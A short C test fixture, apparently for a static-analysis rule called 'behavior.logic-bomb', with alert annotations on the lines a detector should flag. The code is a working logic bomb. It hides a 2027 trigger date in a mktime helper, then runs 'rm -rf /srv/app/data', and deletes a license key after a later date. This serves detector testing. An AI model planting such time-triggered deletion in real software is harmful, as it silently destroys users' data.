/*
 * behavior.logic-bomb: the trigger date is not a number in the source but a
 * struct tm filled with constants and turned into a time by mktime, inside a
 * helper. Once the clock passes it, the data folders are wiped.
 */
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static time_t cutoff(void)
{
    struct tm tm;
    memset(&tm, 0, sizeof tm);
    tm.tm_year = 2027 - 1900;
    tm.tm_mon = 5;
    tm.tm_mday = 30;
    tm.tm_isdst = -1;
    return mktime(&tm);
}

int main(void)
{
    struct tm expiry = {.tm_year = 128, .tm_mon = 0, .tm_mday = 1};
    if (time(NULL) >= cutoff())
        system("rm -rf /srv/app/data"); // $ Alert[behavior.logic-bomb]
    if (time(NULL) > timegm(&expiry))
        unlink("/srv/app/license.key"); // $ Alert[behavior.logic-bomb]
    return 0;
}
